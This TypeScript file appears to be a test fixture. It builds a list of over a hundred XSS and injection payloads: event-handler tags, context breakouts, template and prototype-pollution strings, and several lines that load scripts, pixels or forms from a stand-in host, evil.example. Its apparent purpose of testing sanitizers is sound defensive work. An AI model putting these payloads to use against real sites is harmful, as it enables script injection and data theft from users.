const CALL = 'window.__ran=1';

const TAGS = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'audio src=x onerror',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'details open ontoggle',
  'marquee onstart',
  'iframe onload',
  'object data=x onerror',
  'div onmouseover',
  'a href=# onclick',
  'button autofocus onfocus',
  'style onload',
  'link rel=stylesheet href=x onerror',
  'math><mtext><img src=x onerror',
  'svg><animate onbegin',
  'xss contenteditable autofocus onfocus',
];

const WRAPPERS: readonly ((tag: string) => string)[] = [
  (tag) => `<${tag}="${CALL}">`,
  (tag) => `"><${tag}='${CALL}'>`,
  (tag) => `</script><${tag}=${CALL}>`,
  (tag) => `\u0000<${tag}=${CALL}>`.replace('\u0000', '\u200B'),
];

const SINGLES = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `<a href="javascript:${CALL}">click</a>`,
  `[click](javascript:${CALL})`,
  `![x](https://evil.example/pixel.png)`,
  `<img src="https://evil.example/pixel.png">`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel="preload" href="https://evil.example/x" as="script">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<form action="https://evil.example/"><button>go</button></form>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `';${CALL};//`,
  `");${CALL};//`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><img src=x onerror=${CALL}></template>`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `\u202E<img src=x onerror=${CALL}>`,
  `مرحبا <img src=x onerror=${CALL}>`,
  `=HYPERLINK("https://evil.example")`,
  '__proto__',
  `<svg><use href="data:image/svg+xml,<svg onload='${CALL}'>"></use></svg>`,
  `<math href="javascript:${CALL}">x</math>`,
];

/** More than a hundred texts that run or load something in a page that takes them for code. */
export const HOSTILE: readonly string[] = [
  ...SINGLES,
  ...WRAPPERS.flatMap((wrap) => TAGS.map(wrap)),
];
